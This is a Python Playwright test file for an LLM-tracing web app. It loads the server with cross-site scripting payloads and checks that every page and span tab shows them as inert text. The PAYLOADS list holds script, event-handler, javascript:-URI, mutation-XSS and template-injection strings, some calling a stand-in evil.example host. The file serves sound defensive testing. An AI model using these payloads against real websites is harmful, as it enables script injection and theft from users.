"""Hostile content in every field that a span can carry stays text on every page: nothing runs, nothing is fetched."""

from __future__ import annotations

import json
import re
import urllib.request
from collections.abc import Iterator
from html import unescape
from itertools import count, cycle
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Page, expect

from browser.conftest import PATIENCE_MS
from media_made import START_NS
from server_process import ServerProcess
from spanwise_server.resources import resource_dir

pytestmark = pytest.mark.browser

EVIL = "evil.example"
#: The one script that stands in a page by our own doing.
OURS = (resource_dir("web") / "static/js/theme.js").read_text()
#: Ways into a page: elements, attributes, addresses, templates, styles, Markdown, odd characters.
PAYLOADS = (
    "<script>fetch('//evil.example/1')</script>",
    "<img src=//evil.example/2 onerror=alert(2)>",
    "\"><svg onload=alert(3)><use href='//evil.example/3#x'>",
    "'><iframe src=\"javascript:alert(4)\"></iframe>",
    "</title></textarea></script><script>alert(5)</script>",
    "[x](javascript:alert(6)) [y](<java\tscript:alert(6)>) [z](data:text/html,<script>alert(6)</script>)",
    "![x](https://evil.example/7.png) ![y](javascript:alert(7))",
    "<a href=\"javascript&colon;alert(8)\">x</a> <https://evil.example/8> javascript:alert(8)",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(9)&gt;\">",
    "<div style=\"background:url(//evil.example/10)\" onmouseover=alert(10)>x</div>",
    "{{ 7*7 }}{% raw %}${alert(11)}<%= 11 %>#{11}",
    "<form action=//evil.example/12><button autofocus onfocus=alert(12)>x</form>",
    "<base href=//evil.example/13><link rel=stylesheet href=//evil.example/13>",
    "<meta http-equiv=refresh content=0;url=//evil.example/14>",
    "\u202e<\u0000img src=x onerror=alert(14)>\ufeff",
    "```html\n<script>alert(15)</script>\n```\n<details open ontoggle=alert(15)>",
    "<x hx-get=//evil.example/16 hx-trigger=load hx-on:load=alert(16) data-hx-get=//evil.example/17>",
    "\"onfocus=alert(17) autofocus x=\"",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(18)>\">",
)  # fmt: skip
ADDRESSES = (
    "javascript:alert(20)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgyMCk8L3NjcmlwdD4=",
    f"https://{EVIL}/20.png",
)
TRACES = len(PAYLOADS)
#: A tab of a span: its id and where it is.
TAB = re.compile(r'<a role="tab" [^>]*? id="(tab-\w+)" [^>]*? href="([^"]+)"')


def attribute(key: str, value: Any) -> dict[str, Any]:
    return {"key": key, "value": {"stringValue": value if isinstance(value, str) else json.dumps(value)}}


def parts(evil: str, address: str) -> list[dict[str, Any]]:
    return [
        {"type": "text", "content": evil},
        {"type": "text", "content": json.dumps({evil: [evil, {evil: None}]})},
        {"type": "reasoning", "content": evil},
        {"type": "tool_call", "id": evil, "name": evil, "arguments": {evil: evil}},
        {"type": "tool_call_response", "id": f"{evil}!", "response": {evil: evil}},
        {"type": "uri", "modality": evil, "uri": address},
        {"type": "blob", "modality": evil, "mime_type": evil, "content": evil},
        {"type": "blob", "modality": "image", "mime_type": "image/svg+xml", "content": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"},
        {"type": "file", "modality": "image", "file_id": evil},
        {"type": evil, evil: evil},
    ]


def spans(number: int, evil: str, address: str) -> Iterator[dict[str, Any]]:
    trace, ids = f"{number + 1:032x}", (f"{number * 16 + n + 1:016x}" for n in count())
    root = next(ids)
    shared = [
        attribute("session.id", f"s{evil}"), attribute("user.id", evil), attribute("deployment.environment", evil),
        attribute("spanwise.prompt.name", evil), attribute("spanwise.prompt.version", evil),
        attribute("spanwise.prompt.template", evil), attribute("spanwise.prompt.variables", {evil: evil}),
        {"key": "spanwise.tags", "value": {"arrayValue": {"values": [{"stringValue": evil}]}}},
        attribute("spanwise.metadata", {evil: evil}), attribute(evil, evil),
        attribute(f"json.{evil}", {evil: {evil: 1}}),
    ]  # fmt: skip
    kinds = {
        "": [attribute("input.value", evil), attribute("output.value", evil)],
        "chat": [
            attribute("gen_ai.operation.name", "chat"), attribute("gen_ai.request.model", evil),
            attribute("gen_ai.response.model", evil), attribute("gen_ai.provider.name", evil),
            attribute("gen_ai.input.messages", [
                {"role": "system", "parts": [{"type": "text", "content": evil}]},
                {"role": evil, "parts": parts(evil, address)},
            ]),
            attribute("gen_ai.output.messages", [
                {"role": "assistant", "parts": parts(evil, address), "finish_reason": evil}
            ]),
            attribute("gen_ai.tool.definitions", [{"name": evil, "description": evil, "parameters": {evil: evil}}]),
        ],
        "execute_tool": [
            attribute("gen_ai.operation.name", "execute_tool"), attribute("gen_ai.tool.name", evil),
            attribute("gen_ai.tool.call.arguments", {evil: evil}), attribute("gen_ai.tool.call.result", evil),
        ],
        "retriever": [
            attribute("openinference.span.kind", "RETRIEVER"),
            attribute("retrieval.documents.0.document.content", evil),
            attribute("retrieval.documents.0.document.id", address),
            attribute("retrieval.documents.0.document.metadata", {evil: evil}),
        ],
    }  # fmt: skip
    for kind, own in kinds.items():
        event = {
            "timeUnixNano": str(START_NS + 5), "name": "exception" if kind == "chat" else evil,
            "attributes": [
                attribute("exception.type", evil), attribute("exception.message", evil),
                attribute("exception.stacktrace", f"  File \"{evil}\", line 1\n{evil}"), attribute(evil, evil),
            ],
        }  # fmt: skip
        yield {
            "traceId": trace, "spanId": root if not kind else next(ids), "parentSpanId": root if kind else "",
            "name": evil, "startTimeUnixNano": str(START_NS + number * 10**9),
            "endTimeUnixNano": str(START_NS + (number + 1) * 10**9), "attributes": [*shared, *own], "events": [event],
            "status": {"code": 2, "message": evil} if kind in ("", "chat") else {},
        }  # fmt: skip


def posted(server: ServerProcess, path: str, body: Any) -> Any:
    request = urllib.request.Request(server.url + path, json.dumps(body).encode(), {"content-type": "application/json"})
    with urllib.request.urlopen(request) as answer:
        return json.loads(answer.read() or b"null")


@pytest.fixture(scope="module")
def hostile(empty_server: ServerProcess) -> ServerProcess:
    """A server whose every name, text and label was chosen by an attacker."""
    for number, (evil, address) in enumerate(zip(PAYLOADS, cycle(ADDRESSES), strict=False)):
        resource = [attribute("service.name", evil), attribute(evil, evil)]
        scope = {"name": evil, "version": evil, "attributes": [attribute(evil, evil)]}
        sent = [
            {
                "resource": {"attributes": resource},
                "scopeSpans": [{"scope": scope, "spans": list(spans(number, evil, address))}],
            }
        ]
        posted(empty_server, "/v1/traces", {"resourceSpans": sent})
        trace, span = f"{number + 1:032x}", f"{number * 16 + 1:016x}"
        judged = {
            "target": {"trace_id": trace, "span_id": span}, "name": evil[:100], "label": evil[:100],
            "explanation": evil, "correction": evil, "annotator": {"kind": "human", "id": evil[:100]},
        }  # fmt: skip
        posted(empty_server, "/api/v1/annotations", judged)
    queue = posted(empty_server, "/api/v1/queues", {"name": PAYLOADS[1]})
    items = empty_server.get(f"/api/v1/queues/{queue['id']}")["items"]
    for item in items[:4]:
        label = {"annotator": PAYLOADS[2][:60], "label": "fail", "explanation": PAYLOADS[1], "correction": PAYLOADS[0]}
        posted(empty_server, f"/api/v1/queues/{queue['id']}/items/{item['id']}/label", label)
    posted(empty_server, "/api/v1/datasets", {
        "name": PAYLOADS[1], "description": PAYLOADS[2], "examples": {"queue_id": queue["id"]}
    })  # fmt: skip
    return empty_server


#: What of the page shown now could act; the path of a step's page is its name, on this server.
ACTING = """(ours) => [...document.querySelectorAll('*')].flatMap(element => {
    const found = [...element.attributes].filter(({name, value}) => /^on/i.test(name) ||
      /^(data-)?hx-on/i.test(name) ||
      (/^(href|src|action|formaction|data|xlink:href|(data-)?hx-(get|post))$/i.test(name)
        && (/^[\\s\\0]*(javascript|vbscript|data:text)/i.test(value)
          || (element.tagName !== 'A' && !value.startsWith('/steps/')
            && /evil\\.example/.test(value.split('?')[0])))) ||
      (name === 'style' && /url\\(/i.test(value)));
    const bad = /^(IFRAME|OBJECT|EMBED|BASE|MATH|FRAME)$/i.test(element.tagName)
      || (element.tagName === 'SCRIPT' && !element.src.startsWith(location.origin + '/static/')
        && !(element.parentNode === document.head && element.textContent === ours));
    const said = found.map(({name, value}) => `${element.tagName} ${name}=${value}`);
    return [...said, ...(bad ? [element.outerHTML] : [])];
})"""
#: What could act of some tabs of the span that is shown, with all that is folded open, once each was drawn. What is not
#: open yet is brought by a click, as a reader's brings it, into the page that is there, under its menus.
EACH_TAB = f"""async ([ids, ours, patience]) => {{
    const acting = {ACTING};
    const isOpen = id => document.getElementById(id)?.getAttribute('aria-selected') === 'true';
    const opened = id => new Promise((done, fail) => {{
        setTimeout(() => fail(Error(`${{id}} never came`)), patience);
        const watch = new MutationObserver(() => {{ if (isOpen(id)) {{ watch.disconnect(); done(); }} }});
        watch.observe(document.body, {{subtree: true, childList: true, attributes: true}});
        document.getElementById(id).click();
    }});
    const seen = [];
    for (const id of ids) {{
        if (!isOpen(id)) await opened(id);
        document.querySelectorAll('details').forEach(one => {{ one.open = true }});
        await new Promise(drawn => requestAnimationFrame(() => setTimeout(drawn)));
        seen.push([id, acting(ours)]);
    }}
    return seen;
}}"""


class Watch:
    """What an attack would do to a page."""

    def __init__(self, page: Page) -> None:
        self.seen: list[str] = []
        page.on("dialog", self._dialog)
        page.on("request", self._request)
        self._page = page

    def _dialog(self, dialog: Any) -> None:
        self.seen.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _request(self, request: Any) -> None:
        if EVIL in request.url.split("?")[0] and not urlsplit(request.url).path.startswith("/steps/"):
            self.seen.append(f"request {request.url}")

    def look(self) -> None:
        """Fail where the page shown now holds what could act."""
        assert self._page.evaluate(ACTING, OURS) == []
        assert self.seen == []

    def look_at_tabs(self, tabs: list[str]) -> None:
        """Fail where the page holds what could act once one of the *tabs* is open."""
        assert self._page.evaluate(EACH_TAB, [tabs, OURS, PATIENCE_MS]) == [[tab, []] for tab in tabs]
        assert self.seen == []


def test_every_page_shows_hostile_content_as_text(hostile: ServerProcess, open_page):
    page = open_page(fresh=True)
    watch = Watch(page)

    def visit(path: str, shows: str = "main") -> None:
        page.goto(hostile.url + path)
        expect(page.locator(shows).first).to_be_visible()
        watch.look()

    visit("/traces?range=all", "#list tbody tr")
    expect(page.locator("#list tbody tr")).to_have_count(TRACES)
    for row in (0, TRACES // 2):
        page.locator("#list [name=trace_id]").nth(row).check()
    watch.look()
    page.locator("#q").fill("user:")
    expect(page.get_by_role("option").first).to_be_visible()
    watch.look()
    visit("/sessions?range=all", ".sessions tbody tr")
    visit("/dashboard?range=all")
    for by in ("model", "prompt", "provider", "environment", "user"):
        visit(f"/dashboard?range=all&by={by}")
    visit("/datasets", "main a")
    visit("/datasets/1", "main")
    visit("/label", "main a")
    visit("/label/1", "main")
    visit("/settings")
    for evil in PAYLOADS:
        visit(f"/traces?range=all&filter={quote('name:' + json.dumps(evil))}")
        visit(f"/sessions/one?id={quote('s' + evil)}")
    visit(f"/compare?a={1:032x}&b={2:032x}")
    visit("/traces?range=all&cols=time.name.input.output.model.prompt.tags.env.user.session.labels", "#list tbody tr")
    visit("/steps?range=all", ".steps-page tbody tr")
    for href in page.eval_on_selector_all(".steps-page tbody a", "all => all.slice(0, 24).map(a => a.href)"):
        path = href.removeprefix(hostile.url)
        visit(path, ".kpis" if path.startswith("/steps/") else "main tbody tr")  # a step, or the spans of a figure
    a, b = (f"{n + 1:032x}:{n * 16 + 1:016x}" for n in (0, 1))
    visit(f"/compare/spans?a={a}", "main")
    visit(f"/compare/spans?a={a}&b={b}", ".compare")
    visit("/traces?range=all", "#list tbody tr")
    page.locator(".views-menu summary").click()
    page.get_by_label("Name of the view").fill(PAYLOADS[1])
    page.get_by_role("button", name="Save", exact=True).click()
    expect(page.locator(".views-menu summary")).to_contain_text(PAYLOADS[1])
    watch.look()


@pytest.mark.parametrize("numbers", [range(9), range(9, TRACES)], ids=["first", "second"])
def test_every_tab_of_every_span_shows_hostile_content_as_text(hostile: ServerProcess, open_page, numbers):
    page = open_page(fresh=True)
    watch = Watch(page)
    for number in numbers:
        trace = f"{number + 1:032x}"
        spans = hostile.get(f"/api/v1/traces/{trace}")["spans"]
        for turn, span in enumerate(spans):
            answer = hostile.call(f"/traces/{trace}?span={span['span_id']}")[1].decode()
            tabs = {tab: unescape(href) for tab, href in TAB.findall(answer)}
            assert len(tabs) > 4
            whole = [tab for place, tab in enumerate(tabs) if (place + number) % len(spans) == turn]
            for tab in whole:
                page.goto(hostile.url + tabs[tab])
                watch.look_at_tabs([tab])
            watch.look_at_tabs([tab for tab in tabs if tab not in whole])
